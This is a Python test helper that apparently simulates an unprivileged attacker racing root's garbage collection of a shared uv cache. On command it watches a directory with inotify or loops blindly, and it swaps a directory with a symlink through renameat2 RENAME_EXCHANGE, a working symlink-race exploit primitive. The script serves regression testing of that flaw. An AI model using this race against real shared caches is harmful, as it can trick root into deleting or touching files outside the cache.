"""An unprivileged user of a shared uv cache racing root's gc (run as that user by the tests).

Commands on stdin, one per line; one reply line each on stdout:
  inotify DIR   open DIR (an entry the user owns, holding d/ and a symlink `link`) now, watch DIR/d;
                reply "ready"; on the first deletion in d, exchange d and link through the handle
                opened before (renameat2 RENAME_EXCHANGE), as the issue's attacker does.
  blind DIR     open DIR now; reply "ready"; exchange d and link in a loop, blindly, until "report".
  report        stop; reply "swapped N" (exchanges that succeeded since the last command).
  quit          exit.
"""
import ctypes
import os
import select
import sys
import threading

libc = ctypes.CDLL(None, use_errno=True)
RENAME_EXCHANGE = 2
IN_DELETE = 0x200


def exchange(fd):
    return libc.renameat2(fd, b"d", fd, b"link", RENAME_EXCHANGE) == 0


def reply(text):
    sys.stdout.write(text + "\n")
    sys.stdout.flush()


def inotify(directory):
    fd = os.open(directory, os.O_RDONLY | os.O_DIRECTORY)
    watch = libc.inotify_init1(os.O_CLOEXEC)
    if libc.inotify_add_watch(watch, os.path.join(directory, "d").encode(), IN_DELETE) < 0:
        reply("error inotify_add_watch %d" % ctypes.get_errno())
        return
    reply("ready")
    swapped = 0
    armed = True
    while True:
        readable, _, _ = select.select([watch, sys.stdin], [], [])
        if watch in readable:
            os.read(watch, 65536)
            if armed:
                armed = False
                swapped += exchange(fd)
            continue
        line = sys.stdin.readline().strip()
        if line == "report":
            break
    os.close(watch)
    os.close(fd)
    reply("swapped %d" % swapped)


def blind(directory):
    fd = os.open(directory, os.O_RDONLY | os.O_DIRECTORY)
    stop = threading.Event()
    count = [0]

    def loop():
        while not stop.is_set():
            count[0] += exchange(fd)

    thread = threading.Thread(target=loop)
    thread.start()
    reply("ready")
    while sys.stdin.readline().strip() != "report":
        pass
    stop.set()
    thread.join()
    os.close(fd)
    reply("swapped %d" % count[0])


for line in sys.stdin:
    command, _, argument = line.strip().partition(" ")
    if command == "inotify":
        inotify(argument)
    elif command == "blind":
        blind(argument)
    elif command == "quit":
        break
